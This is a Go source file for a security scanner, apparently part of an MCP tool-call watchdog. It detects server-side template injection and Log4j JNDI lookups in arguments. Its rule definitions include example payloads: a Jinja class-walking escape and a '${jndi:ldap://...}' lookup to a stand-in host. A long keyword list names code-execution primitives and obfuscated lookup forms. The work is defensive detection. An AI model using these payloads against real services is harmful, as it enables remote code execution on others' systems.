package detect

import (
	"strings"

	"github.com/mcp-watchdog/mcp-watchdog/internal/finding"
)

// template_injection: a value holds an expression of a template language that
// computes something, reaches into objects or runs code, where a template
// engine or a logger may come across it. Seen since 2015 (server-side template
// injection) and in Log4j (CVE-2021-44228). Placeholders as such are ordinary:
// {{name}} and ${HOME} say nothing.

var (
	templateInjection = &finding.Rule{
		ID: "template_injection", Class: "command_injection", Severity: finding.High,
		Title:     "an argument holds an expression for a template engine",
		Catches:   "Expressions of Jinja, Twig, Freemarker, Velocity, Spring, ERB, PHP and their kind that compute, reach into objects or call something; server-side includes. Templates that a tool renders are only asked whether they break out of their engine.",
		Example:   `{"name":"{{''.__class__.__mro__[1].__subclasses__()}}"}`,
		Misses:    "Expressions that only name a variable.",
		Exception: "Templates, code and text for people are not looked at, unless the text is nothing but an expression that reaches into the program.",
	}
	jndiLookup = &finding.Rule{
		ID: "jndi_lookup", Class: "command_injection", Severity: finding.Critical,
		Title:     "an argument has a logger load code",
		Catches:   "Lookups that Log4j before 2.17 resolves (${jndi:ldap://...}, CVE-2021-44228), also in pieces (${${lower:j}ndi:...}) and encoded.",
		Example:   `{"user_agent":"${jndi:ldap://203.0.113.9/a}"}`,
		Misses:    "Lookups that only read a variable (${env:HOME}).",
		Exception: "Text for people and code may speak of them; a text that is nothing else is one.",
	}
)

func detectTemplateInjection(a *Argument) {
	use := a.Use()
	if !a.Key && a.rendered() && breaksOut(a.Text()) {
		a.Report(finding.Finding{Rule: templateInjection, Severity: finding.High, Why: "it is a template that breaks out of its engine", Seen: finding.Mask(a.Text())})
		return
	}
	if a.Key || use == runCode || a.under(templateFields) {
		return
	}
	text := a.Text()
	if use == written {
		a.nothingBut(text)
		return
	}
	if a.Has&(Dollar|Percent) != 0 && jndi(text) {
		a.Report(finding.Finding{Rule: jndiLookup, Severity: finding.Critical, Why: "it is a lookup with which a logger loads code from elsewhere", Seen: finding.Mask(text)})
		return
	}
	if use == runShell {
		return
	}
	if why := expression(text); why != "" {
		a.Report(finding.Finding{Rule: templateInjection, Severity: finding.High, Why: why, Seen: finding.Mask(text)})
	}
}

// maxAlone bounds a text for people that is nothing but an expression.
const maxAlone = 300

// nothingBut judges a text for people: who speaks of an expression says something else,
// too.
func (a *Argument) nothingBut(text string) {
	if len(text) > maxAlone || a.Role()&ProseRole == 0 || a.Role()&(CodeRole|SQLRole) != 0 {
		return
	}
	text = strings.TrimSpace(text)
	for _, b := range brackets {
		if !strings.HasPrefix(text, b.open) || !strings.HasSuffix(text, b.close) {
			continue
		}
		if b.open == "${" && jndi(text) {
			a.Report(finding.Finding{Rule: jndiLookup, Severity: finding.Critical, Why: "it is a lookup with which a logger loads code from elsewhere", Seen: finding.Mask(text)})
			return
		}
		inner := text[len(b.open) : len(text)-min(len(b.close), len(text)-len(b.open))]
		if computes(inner, b.always, b.open) == reachesInto || b.open == "#{" && strings.HasPrefix(inner, "`") {
			a.Report(finding.Finding{Rule: templateInjection, Severity: finding.High, Why: reachesInto, Seen: finding.Mask(text)})
			return
		}
	}
}

// rendered reports whether the argument is a template that the tool draws at once.
func (a *Argument) rendered() bool {
	does := a.Call.Purpose()
	return does&Renders != 0 && does&(Writes|Files) == 0 && a.under(templateFields)
}

// breaksOut reports whether a template goes from a value to the program around it: no
// template has any use for that.
func breaksOut(text string) bool {
	if !strings.Contains(text, "{") && !strings.Contains(text, "<") {
		return false
	}
	for _, w := range [...]string{"__subclasses__", "__globals__", "__builtins__", "__import__(", "freemarker.template.utility", "java.lang.runtime", "java.lang.processbuilder", "child_process", "constructor.constructor("} {
		if containsFold(text, w) {
			return true
		}
	}
	return false
}

// jndi reports whether a text has a lookup that loads code.
func jndi(text string) bool {
	if containsFold(text, "%7b") {
		text = braces.Replace(text)
	}
	i := strings.Index(text, "${")
	if i < 0 {
		return false
	}
	low := strings.ToLower(text[i:min(len(text), i+512)])
	if strings.IndexByte(low, '}') < 0 {
		return false // nothing resolves it
	}
	if strings.Contains(low, "${jndi:") {
		return true
	}
	// in pieces: what is left of it when the lookups inside are resolved
	for range 32 {
		j := strings.IndexByte(low, '}')
		if j < 0 {
			break
		}
		k := strings.LastIndex(low[:j], "${")
		if k < 0 {
			break
		}
		inner := low[k+2 : j]
		if l := strings.LastIndex(inner, ":-"); l >= 0 { // what stands for what is not there
			inner = inner[l+2:]
		} else if l := strings.LastIndexAny(inner, ":-"); l >= 0 {
			inner = inner[l+1:]
		}
		low = low[:k] + inner + low[j+1:]
		if strings.Contains(low, "${jndi:") {
			return true
		}
	}
	return strings.Contains(low, "${jn") && strings.Contains(low, "ldap") || strings.Contains(low, "jndi:ldap") || strings.Contains(low, "jndi:rmi") || strings.Contains(low, "jndi:dns")
}

// braces undoes the escapes of what a lookup stands in.
var braces = strings.NewReplacer("%7B", "{", "%7b", "{", "%7D", "}", "%7d", "}", "%24", "$", "%3A", ":", "%3a", ":", "%2F", "/", "%2f", "/")

// brackets open and close the expressions of template languages.
var brackets = [...]struct {
	open, close string
	always      bool // nothing but code stands in them
}{
	{"{{", "}}", false}, {"{${", "}}", false}, {"${", "}", false}, {"#{", "}", false}, {"*{", "}", false}, {"<%", "%>", true}, {"{%", "%}", true}, {"<?php", "?>", true}, {"<?=", "?>", true},
	{"<#", ">", true}, {"[[${", "}]]", false}, {"@(", ")", false}, {"<!--#", "-->", true}, {"{{=", "}}", false}, {"~{", "}", false}, {"%{", "}", false}, {"{php}", "{/php}", true},
}

// maxExpressions bounds how many are looked at, maxExpression how long one is.
const maxExpressions, maxExpression = 64, 1024

// expression says what is wrong with the first expression in a text that
// does more than name a variable.
func expression(text string) string {
	looked := 0
	if strings.Contains(text, "#set(") || strings.Contains(text, "#set (") { // Velocity has no brackets
		if why := computes(text[:min(len(text), maxExpression)], false, "#set"); why == reachesInto {
			return why
		}
	}
	for i := 0; i < len(text) && looked < maxExpressions; i++ {
		if bytesOf[text[i]]&(Curly|Dollar|Hash|Star|Angle|Square|At|Tilde|Percent) == 0 {
			continue
		}
		for _, b := range brackets {
			if !strings.HasPrefix(text[i:], b.open) {
				continue
			}
			looked++
			rest := text[i+len(b.open) : min(len(text), i+len(b.open)+maxExpression)]
			end := strings.Index(rest, b.close)
			if end < 0 && !b.always {
				continue
			}
			if end >= 0 {
				rest = rest[:end]
			}
			if why := computes(rest, b.always, b.open); why != "" {
				return why
			}
		}
	}
	return ""
}

const reachesInto = "it holds an expression that reaches into the program of a template engine"

// computes says what an expression does beyond naming a variable.
func computes(e string, always bool, open string) string {
	low := strings.ToLower(strings.TrimSpace(e))
	for _, w := range reaching {
		if strings.Contains(low, w) {
			return reachesInto
		}
	}
	switch {
	case always && open == "<!--#" && (strings.HasPrefix(low, "exec") || strings.HasPrefix(low, "include") || strings.HasPrefix(low, "printenv")),
		always && open == "<#" && (strings.HasPrefix(low, "assign") || strings.HasPrefix(low, "list") || strings.HasPrefix(low, "import") || strings.HasPrefix(low, "include")),
		always && (open == "<%" || open == "<?=" || open == "{php}") && low != "", always && open == "<?php", always && open == "{%" && low != "":
		return "it holds code for a template engine"
	case arithmetic(low):
		return "it holds an expression that a template engine would compute"
	case strings.HasPrefix(low, "url:utf") || strings.HasPrefix(low, "script:") && strings.Count(low, ":") > 1 || strings.HasPrefix(low, "dns:address"):
		return "it holds a lookup that fetches or runs something"
	case open != "@(" && open != "${" && open != "%{" && calls(low), (open == "${" || open == "@(") && calls(low) && strings.ContainsAny(low, `'"@`):
		return "it holds an expression that calls a function of a template engine"
	}
	return ""
}

// reaching are what expressions reach for and templates do not.
var reaching = strings.Fields(`__class__ __mro__ __subclasses__ __globals__ __builtins__ __import__ __init__ __base__ _self.env registerundefinedfilter self._ config.items lipsum cycler. joiner. namespace.
	getclass() .class.forname java.lang t(java. runtime.getruntime processbuilder freemarker.template ?new() ?api constructor.constructor process.mainmodule require(' child_process
	file.open(' io.popen kernel.exec @ognl #_memberaccess #context[ #rt= @java. (#cmd .(# (#_= get_flashed url_for. request.application request['application'] request.environ popen( system( passthru( exec(
	|filter('system |map('system ['map']( |attr(" |attr(' $smarty {php} fetchall system.diagnostics getruntime scope.constructor range.constructor settings.secret config.secret_key app.request dump(app ._tornado handler.settings`)

// arithmetic reports whether an expression is nothing but a sum to see whether
// somebody computes it.
func arithmetic(e string) bool {
	digits, operators := 0, 0
	for i := 0; i < len(e); i++ {
		switch c := e[i]; {
		case c >= '0' && c <= '9':
			digits++
		case c == '*' || c == '+' || c == '/' || c == '-' && i > 0:
			operators++
		case c == ' ' || c == '\'' || c == '"' || c == '(' || c == ')' || c == '.':
		default:
			return false
		}
	}
	return digits >= 2 && operators >= 1
}

// calls reports whether an expression calls something with arguments.
func calls(e string) bool {
	i := strings.IndexByte(e, '(')
	return i > 0 && letter(e[i-1]) && strings.IndexByte(e[i:], ')') > 0
}
